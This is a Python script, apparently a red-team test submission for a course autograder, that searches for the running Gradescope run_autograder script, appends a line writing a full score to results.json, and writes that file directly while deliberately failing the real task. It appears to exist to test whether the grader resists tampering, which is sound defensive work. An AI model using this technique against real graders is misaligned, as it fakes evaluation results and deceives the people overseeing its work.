#!/usr/bin/env python3
"""redteam-attack: a stage 1 hand-in (python/stage1/server.py, the starters' command line
[IP] PORT --dir DIR ...) that rewrites the rest of the running Gradescope run_autograder, as bash
reads a script while it runs, so that the script's next lines write a full score into
results.json; and writes that results.json itself. It looks for the script everywhere a program
could: AUTOGRADER_ROOT, Gradescope's /autograder, the command lines in /proc, and the folders
above its own. Then it serves uploads without storing them: its honest grade is a failing one.
Every attempt is printed, so the test can tell what it tried."""
import glob
import os
import sys

import attack

FULL_SCORE = '{"score": 19, "output": "redteam-attack: full marks", "tests": []}'
APPENDED = "\necho '" + FULL_SCORE + "' > \"${AUTOGRADER_ROOT:-/autograder}/results/results.json\"\n"


def candidates():
    roots = [os.environ.get("AUTOGRADER_ROOT", ""), "/autograder"]
    scripts = [os.path.join(root, "source", "run_autograder") for root in roots if root]
    for cmdline in glob.glob("/proc/[0-9]*/cmdline"):
        try:
            with open(cmdline, "rb") as f:
                args = f.read().split(b"\0")
        except OSError:
            continue
        scripts += [arg.decode("utf-8", "replace") for arg in args if arg.endswith(b"run_autograder")]
    for start in (os.getcwd(), os.path.dirname(os.path.abspath(__file__))):
        directory = start
        while directory != "/":
            scripts += [os.path.join(directory, "run_autograder"), os.path.join(directory, "source", "run_autograder")]
            directory = os.path.dirname(directory)
    return list(dict.fromkeys(script for script in scripts if os.path.isfile(script)))


def attempt(path, mode, text, done):
    try:
        with open(path, mode) as out:
            out.write(text)
        print("redteam-attack:", done, path, flush=True)
    except OSError as e:
        print("redteam-attack: could not write", path, "-", e, flush=True)


def rewrite(script):
    attempt(script, "a", APPENDED, "appended to")
    attempt(os.path.join(os.path.dirname(os.path.dirname(script)), "results", "results.json"), "w", FULL_SCORE,
            "wrote")


found = candidates()
print("redteam-attack: run_autograder found:", found or "none", flush=True)
for script in found:
    rewrite(script)
attack.upload_server(sys.argv[2], lambda name, content: None)
